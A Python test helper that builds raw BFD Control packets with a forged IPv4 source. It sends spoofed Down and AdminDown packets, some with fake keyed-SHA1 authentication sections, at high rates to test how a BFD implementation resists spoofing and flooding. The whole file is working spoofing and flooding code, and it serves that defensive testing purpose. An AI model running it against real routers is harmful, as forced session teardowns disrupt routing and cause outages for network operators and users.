#!/usr/bin/env python3
"""Hand-made BFD Control packets (RFC 5880 §4.1) from a forged IPv4 source, for the BFD
spoofing and flooding tests.

    bfd_spoof.py SRC DST KIND COUNT [SECONDS] [--rate PPS]

Builds each packet down to the IP header (raw socket, IP_HDRINCL), so SRC may be an address
the sending namespace does not own: a stranger on the segment pretending to be the peer.
TTL is 255, so the RFC 5881 §5 check passes. KIND is one of

    down-zero       state Down, Your Discriminator 0 (what a spoofer can send without
                    knowing the session's discriminator)
    admindown-zero  state AdminDown, Your Discriminator 0
    down-random     state Down, a random nonzero Your Discriminator each time
    mixed           the three above in turn
    auth-down-zero  state Down, Your Discriminator 0, with the A bit and a keyed SHA1
                    section (RFC 5880 §4.4: Auth Type 4, Key ID 1, a sequence number one
                    higher each time, a random 20-byte digest): what a spoofer can send
                    against an authenticated session without the key
    auth-admindown-zero  the same in state AdminDown
    auth-zero       the two above in turn

COUNT packets are sent, stopping early after SECONDS (default 5): as fast as possible, or
at PPS packets a second with --rate (sent in small bursts whenever the count falls behind
the clock). Packets are made before the clock starts (a pool of up to 4096, sent in turn),
so that making them does not limit the rate.
Prints one JSON line: {"sent": N, "seconds": S, "rate": R}.
"""
import argparse
import errno
import json
import os
import random
import socket
import struct
import time

DOWN, ADMIN_DOWN = 1, 0
POOL = 4096
BURST = 64
# RFC 5880 §4.1: the A bit; §4.4: Keyed SHA1 is Auth Type 4, its section is 28 octets.
AUTH_BIT = 0x04
KEYED_SHA1, SHA1_AUTH_LEN, KEY_ID = 4, 28, 1


def bfd(state, your, sequence=None):
    my = random.randrange(1, 2**32)
    flags = state << 6
    auth = b""
    if sequence is not None:
        flags |= AUTH_BIT
        auth = struct.pack("!BBBBI", KEYED_SHA1, SHA1_AUTH_LEN, KEY_ID, 0, sequence)
        auth += os.urandom(20)
    # Vers 1 / Diag 0, flags, Detect Mult 3, Length, discriminators, intervals.
    length = 24 + len(auth)
    header = struct.pack("!BBBBIIIII", 0x20, flags, 3, length, my, your, 1000000, 1000000, 0)
    return header + auth


def datagram(src, dst, payload):
    sport = random.randrange(49152, 65536)
    udp = struct.pack("!HHHH", sport, 3784, 8 + len(payload), 0) + payload  # IPv4: checksum 0 allowed
    # The kernel fills in the total length, the identification and the header checksum.
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0xC0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + udp


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("src")
    parser.add_argument("dst")
    parser.add_argument("kind")
    parser.add_argument("count", type=int)
    parser.add_argument("seconds", type=float, nargs="?", default=5.0)
    parser.add_argument("--rate", type=float, help="packets a second (default: as fast as possible)")
    args = parser.parse_args()
    sequence = iter(range(random.randrange(2**31), 2**32))
    kinds = {
        "down-zero": [lambda: bfd(DOWN, 0)],
        "admindown-zero": [lambda: bfd(ADMIN_DOWN, 0)],
        "down-random": [lambda: bfd(DOWN, random.randrange(1, 2**32))],
        "auth-down-zero": [lambda: bfd(DOWN, 0, next(sequence))],
        "auth-admindown-zero": [lambda: bfd(ADMIN_DOWN, 0, next(sequence))],
    }
    kinds["mixed"] = [k[0] for k in (kinds["down-zero"], kinds["admindown-zero"], kinds["down-random"])]
    kinds["auth-zero"] = [kinds["auth-down-zero"][0], kinds["auth-admindown-zero"][0]]
    makers = kinds[args.kind]
    pool = [
        datagram(args.src, args.dst, makers[i % len(makers)]())
        for i in range(min(args.count, POOL))
    ]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    send = s.sendto
    to = (args.dst, 0)
    start = time.monotonic()
    sent = 0
    elapsed = 0.0
    while sent < args.count:
        elapsed = time.monotonic() - start
        if elapsed >= args.seconds:
            break
        burst = min(BURST, args.count - sent)
        if args.rate:
            behind = int(elapsed * args.rate) + 1 - sent
            if behind <= 0:
                # Ahead of the clock: wait for the next packet's time.
                time.sleep((sent + 1) / args.rate - elapsed)
                continue
            burst = min(burst, behind)
        for _ in range(burst):
            try:
                send(pool[sent % len(pool)], to)
                sent += 1
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as e:
                if e.errno == errno.ENOBUFS:  # the device queue is full; let it drain
                    time.sleep(0.001)
                else:
                    raise
    elapsed = time.monotonic() - start
    rate = sent / elapsed if elapsed > 0 else 0.0
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "rate": round(rate)}))


if __name__ == "__main__":
    main()
